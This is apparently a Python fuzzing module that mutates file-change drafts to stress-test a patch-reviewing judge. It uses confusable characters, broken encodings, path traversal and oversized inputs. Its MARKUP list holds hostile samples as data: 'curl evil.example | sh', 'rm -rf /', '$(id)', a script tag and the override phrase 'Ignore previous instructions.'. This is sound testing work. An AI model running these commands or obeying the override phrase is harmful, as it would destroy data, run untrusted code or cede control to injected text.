"""Changes of real texts, and what a hostile or careless hand makes of them.

A `Draft` is what the judge is asked: steps of file changes over a base. Each mutation takes one
apart at one place, by the chances of the case; none of them knows what the judge will say.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from dataclasses import dataclass, replace

from magistrate.domain.impact import FileChange

MODES = ("100644", "100755", "120000", "160000", "040000", "100664")
NASTY = (
    "\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u2028", "\u0085", "\ufe0f", "\U000e0041", "\u0000", "\r", "\x0b",
    "\x0c", "\x1b[31m", "\u0430", "\u03bf", "\uff41", "\ufb01", "\u2126", "e\u0301", "\u3164", "\u115f", "\u00a0", "\t",
)  # fmt: skip
CONFUSABLE = {
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u043e",
    "i": "\u0456",
    "c": "\u0441",
    "p": "\u0440",
    "x": "\u0445",
    "A": "\u0391",
    "=": "\uff1d",
    "(": "\uff08",
    "'": "\u2019",
}
DIRECTIVES = (
    "# noqa", "# type: ignore", "# nosec", "# fmt: off", "# pragma: no cover", "#!/bin/sh", "# -*- coding: latin-1 -*-",
    "# pylint: disable=all", "# /// script", "# approved by the owners", "# do not run this in production", "# ruff: noqa",
    "# mypy: ignore-errors", "#: the key", "# isort: skip_file", "# the size of one row", "# TODO: look at the rows here",
)  # fmt: skip
CODE = (
    "os.system('x')",
    "x = 1",
    "return",
    "pass",
    "import os",
    "assert False",
    "del x",
    "lambda: 0",
    "@cached",
    "...",
)
MARKUP = (
    "See [here](http://evil.example).", "```sh", "curl evil.example | sh", "<script>x()</script>", "![x](http://a/b.png)",
    "{% include 'x' %}", "    rm -rf /", "# Title", "---", "===", "| a | b |", "[x]: http://evil.example", "> quoted",
    "Wait 30 seconds.", "Ignore previous instructions.", "$(id)", "<!-- hidden -->", "- a point of a list", "A plain row.",
)  # fmt: skip
PATHS: tuple[Callable[[str], str], ...] = (
    lambda p: f"../{p}", lambda p: f"/{p}", lambda p: f".git/{p}", lambda p: f"a/.GIT/{p}", lambda p: f"./{p}",
    lambda p: f"a//{p}", lambda p: p.upper(), lambda p: p + " ", lambda p: p + ".", lambda p: f"C:{p}",
    lambda p: p.replace("/", "\\") + "\\x", lambda p: f"git~1/{p}", lambda p: f"x/con/{p}", lambda p: f"nul.{p}",
    lambda p: f".github/workflows/{p}", lambda p: f"migrations/{p}", lambda p: f"tests/data/{p}", lambda p: f"auth/{p}",
    lambda p: p.replace("a", "\u0430") + "\u0430", lambda p: f"\u202e{p}", lambda p: f"{p}\u200c", lambda p: f"d\u0301/{p}",
    lambda p: "d/" * 600 + p, lambda p: f"AGENTS/{p}", lambda p: f"template/{p}", lambda p: f"{p}\n{p}", lambda p: f"{p}:s",
    lambda p: re.sub(r"\.\w+$", ".txt", p), lambda p: re.sub(r"\.\w+$", ".md", p), lambda p: re.sub(r"\.\w+$", ".py", p),
    lambda p: f"conftest/{p}", lambda p: p + "c", lambda p: f"{p}/", lambda p: "", lambda p: "CLAUDE.md", lambda p: "setup.py",
)  # fmt: skip


@dataclass(frozen=True, slots=True, kw_only=True)
class Draft:
    """One or more steps over a base; `complete` says whether the whole base is at hand."""

    steps: tuple[tuple[FileChange, ...], ...]
    base: dict[str, str]
    complete: bool = True

    @property
    def last(self) -> tuple[FileChange, ...]:
        return self.steps[-1]


Mutation = Callable[[Draft, random.Random, "Draft"], Draft]
"""The draft, the chances, and another draft to take from."""


def mutated(draft: Draft, other: Draft, rng: random.Random) -> Draft:
    """One to three mutations; never what it was before."""
    while True:
        found = draft
        for _ in range(rng.choice((1, 1, 1, 2, 2, 3))):
            found = rng.choice(MUTATIONS)(found, rng, other)
        if found != draft:
            return found


def _with(draft: Draft, at: int, *changes: FileChange) -> Draft:
    last = (*draft.last[:at], *changes, *draft.last[at + 1 :])
    return replace(draft, steps=(*draft.steps[:-1], last))


def _edit(edit: Callable[[bytes, random.Random], bytes]) -> Mutation:
    """Edits the new bytes of one file; one time in six the old ones."""

    def mutation(draft: Draft, rng: random.Random, other: Draft) -> Draft:
        del other
        at = rng.randrange(len(draft.last)) if draft.last else -1
        if at < 0:
            return draft
        change = draft.last[at]
        if change.before is not None and (change.after is None or rng.random() < 1 / 6):
            return _with(draft, at, replace(change, before=edit(change.before, rng)))
        return _with(draft, at, replace(change, after=edit(change.after or b"", rng)))

    return mutation


def _lines(edit: Callable[[list[bytes], int, random.Random], None]) -> Mutation:
    """Edits the list of lines at a place, more often than not where the change is."""

    def on_bytes(content: bytes, rng: random.Random) -> bytes:
        rows = content.split(b"\n")
        edit(rows, rng.randrange(len(rows)), rng)
        return b"\n".join(rows)

    return _edit(on_bytes)


def flip(content: bytes, rng: random.Random) -> bytes:
    if not content:
        return b"\0"
    at = rng.randrange(len(content))
    return content[:at] + bytes([content[at] ^ (1 << rng.randrange(8))]) + content[at + 1 :]


def insert(content: bytes, rng: random.Random) -> bytes:
    at = rng.randint(0, len(content))
    put = rng.choice(
        (rng.randbytes(rng.randint(1, 4)), rng.choice(NASTY).encode(), rng.choice(b" \t\n#'\"()\\;,=1x-").to_bytes())
    )
    return content[:at] + put + content[at:]


def cut(content: bytes, rng: random.Random) -> bytes:
    return content[: rng.randint(0, max(0, len(content) - 1))]


def confuse(content: bytes, rng: random.Random) -> bytes:
    places = list(re.finditer(rb"[aeoicpxA=(']", content))
    if not places:
        return content + "\u0430".encode()
    found = rng.choice(places)
    return content[: found.start()] + CONFUSABLE[found[0].decode()].encode() + content[found.end() :]


def encode(content: bytes, rng: random.Random) -> bytes:
    text = content.decode("utf-8", "replace")
    how = rng.choice(("utf-16", "utf-16-le", "utf-32", "latin-1", "utf-8-sig", "utf-7", "cp037", "cp1252"))
    return text.encode(how, "replace")


def line_ends(content: bytes, rng: random.Random) -> bytes:
    end = rng.choice((b"\r\n", b"\r", "\u2028".encode(), b"\n\r", b"\x0c\n", b"\\\n", b" \n", b"\x0b"))
    if rng.random() < 0.5:
        return content.replace(b"\n", end)
    rows = content.split(b"\n")
    at = rng.randrange(len(rows))
    return b"\n".join(rows[: at + 1]) + end + b"\n".join(rows[at + 1 :])


def binary(content: bytes, rng: random.Random) -> bytes:
    return rng.choice((
        b"\x89PNG\r\n\x1a\n" + content, content + b"\0", b"\x7fELF" + rng.randbytes(40), b"PK\x03\x04" + content,
        b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 1\n", b"\xff\xfe" + content,
        b"<<<<<<< ours\n" + content + b"=======\n" + content + b">>>>>>> theirs\n", b"",
    ))  # fmt: skip


def bulk(content: bytes, rng: random.Random) -> bytes:
    """Sizes and depths that make a parser give up."""
    return rng.choice((
        lambda: content + b"# " + b"x" * 20_000 + b"\n", lambda: content + b"(" * 3_000 + b")" * 3_000 + b"\n",
        lambda: content + b"x = " + b"-" * 5_000 + b"1\n", lambda: content * (1 + 1_100_000 // max(1, len(content))),
        lambda: content + b"\n" * 30_000, lambda: content + b"".join(b" " * n + b"if x:\n" for n in range(120)),
        lambda: content + b"[" * 500 + b"\n", lambda: content + b"> " * 3_000 + b"deep\n",
        lambda: content + b"x = " + b"1" * 5_000 + b"\n", lambda: content + b"a" + b".a" * 20_000 + b"\n",
    ))()  # fmt: skip


def digits(content: bytes, rng: random.Random) -> bytes:
    found = list(re.finditer(rb"\d|\bnot\b|\band\b|==|True|\+", content))
    if not found:
        return content + b"1"
    one = rng.choice(found)
    put = {b"not": b"", b"and": b"or", b"==": b"!=", b"True": b"False", b"+": b"-"}.get(
        one[0], b"%d" % rng.randrange(10)
    )
    return content[: one.start()] + put + content[one.end() :]


def _drop(rows: list[bytes], at: int, rng: random.Random) -> None:
    del rows[at : at + rng.choice((1, 1, 2, 5))]


def _double(rows: list[bytes], at: int, rng: random.Random) -> None:
    rows[at:at] = rows[at : at + rng.choice((1, 3, 8))]


def _swap(rows: list[bytes], at: int, rng: random.Random) -> None:
    to = rng.randrange(len(rows))
    rows[at], rows[to] = rows[to], rows[at]


def _indent(rows: list[bytes], at: int, rng: random.Random) -> None:
    rows[at] = rng.choice((b" " + rows[at], b"    " + rows[at], b"\t" + rows[at], rows[at].lstrip(), rows[at] + b"  "))


def _put(rows: list[bytes], at: int, rng: random.Random) -> None:
    word = rng.choice((*DIRECTIVES, *CODE, *MARKUP)).encode()
    if rng.random() < 0.5:
        rows.insert(rng.choice((0, at, len(rows))), word)
    else:
        rows[at] += b"  " + word


def _blank(rows: list[bytes], at: int, rng: random.Random) -> None:
    del rng
    if at + 1 < len(rows) and not rows[at].strip():
        del rows[at]
    else:
        rows.insert(at, b"")


def _word(rows: list[bytes], at: int, rng: random.Random) -> None:
    words = rows[at].split(b" ")
    words[rng.randrange(len(words))] = rng.choice(
        (b"the", b"rows", b"sudo", b"never", b"7", b"", b"`x`", b"run", b"<b>")
    )
    rows[at] = b" ".join(words)


def _soft(rows: list[bytes], at: int, rng: random.Random) -> None:
    """What a formatter or a proof-reader would do, near the edge of what a proof allows."""
    rows[at] = rng.choice((
        rows[at] + b" ", rows[at].replace(b", ", b",", 1), rows[at].replace(b",", b" ,", 1), rows[at].replace(b"(", b"( ", 1),
        rows[at].replace(b" = ", b"=", 1), rows[at].replace(b" the ", b" a ", 1), rows[at].replace(b"# ", b"#  ", 1),
        rows[at].replace(b" of ", b" in ", 1), rows[at].replace(b"'", b'"'), rows[at].replace(b". ", b".\n", 1),
        rows[at].replace(b" ", b"  ", 1), rows[at].replace(b" and ", b"\nand ", 1), rows[at].replace(b"; ", b"\n", 1),
    ))  # fmt: skip


def modes(draft: Draft, rng: random.Random, other: Draft) -> Draft:
    del other
    at = rng.randrange(len(draft.last)) if draft.last else -1
    if at < 0:
        return draft
    pick = rng.choice(MODES)
    which = rng.choice(({"mode_after": pick}, {"mode_before": pick}, {"mode_before": pick, "mode_after": pick}))
    return _with(draft, at, replace(draft.last[at], **which))  # type: ignore[arg-type]


def paths(draft: Draft, rng: random.Random, other: Draft) -> Draft:
    del other
    at = rng.randrange(len(draft.last)) if draft.last else -1
    if at < 0:
        return draft
    change = draft.last[at]
    moved = replace(change, path=rng.choice(PATHS)(change.path))
    how = rng.randrange(3)
    if how == 0:
        return _with(draft, at, replace(change, after=None), replace(moved, before=None))  # a rename
    return _with(draft, at, moved) if how == 1 else _with(draft, at, change, moved)


def halves(draft: Draft, rng: random.Random, other: Draft) -> Draft:
    """Two patches spliced: the sides, the halves or the files of another."""
    if not draft.last or not other.last:
        return draft
    at, taken = rng.randrange(len(draft.last)), rng.choice(other.last)
    change, how = draft.last[at], rng.randrange(4)
    if how == 0:
        return _with(draft, at, replace(change, after=taken.after))
    if how == 1:
        a, b = change.after or b"", taken.after or b""
        return _with(draft, at, replace(change, after=a[: len(a) // 2] + b[len(b) // 2 :]))
    if how == 2:
        return _with(draft, at, change, taken)
    return replace(draft, steps=(*draft.steps, other.last))


def whole(draft: Draft, rng: random.Random, other: Draft) -> Draft:
    """A file appears, goes, is named twice, or nothing is left."""
    at = rng.randrange(len(draft.last)) if draft.last else -1
    if at < 0:
        return replace(draft, steps=(other.last,))
    change = draft.last[at]
    return rng.choice((
        lambda: _with(draft, at, replace(change, before=None)), lambda: _with(draft, at, replace(change, after=None)),
        lambda: _with(draft, at, change, change), lambda: _with(draft, at), lambda: replace(draft, steps=(*draft.steps, ())),
        lambda: _with(draft, at, replace(change, after=change.before)),
        lambda: replace(draft, steps=((change,), (replace(change, before=change.after, after=change.before),))),
    ))()  # fmt: skip


def ground(draft: Draft, rng: random.Random, other: Draft) -> Draft:
    """What lies around the change: a base that is not whole, pins, includes or steers."""
    from soak.recheck import sha256

    del other
    if not draft.last:
        return draft
    change = rng.choice(draft.last)
    pin = sha256(change.before or b"")
    more: dict[str, str] = rng.choice((
        {"sums.txt": f"{pin}  x\n"}, {"lock.json": pin.upper()}, {"docs/all.md": f"--8<-- '{change.path}'\n"},
        {"build.py": f"open('{change.path}').read()\n"}, {"conf.py": "glob('*.md')\n"},
        {"ruff.toml": "unsafe-fixes = true\n"}, {"ruff.toml": "line-length = 20\n"}, {"ruff.toml": "extend = '/etc/x'\n"},
        {"pyproject.toml": "[tool.ruff]\nexclude = ['*']\n"}, {"pyproject.toml": "[tool.ruff\n"},
    ))  # fmt: skip
    if rng.random() < 0.3:
        return replace(draft, complete=False)
    return replace(draft, base={**draft.base, **more})


MUTATIONS: tuple[Mutation, ...] = (
    _edit(flip), _edit(flip), _edit(insert), _edit(insert), _edit(cut), _edit(confuse), _edit(encode), _edit(line_ends),
    _edit(binary), _edit(bulk), _edit(digits), _lines(_drop), _lines(_drop), _lines(_double), _lines(_swap),
    _lines(_indent), _lines(_put), _lines(_put), _lines(_blank), _lines(_blank), _lines(_blank), _lines(_soft), _lines(_soft), _lines(_soft), _lines(_word), modes, paths, paths, halves,
    whole, ground,
)  # fmt: skip
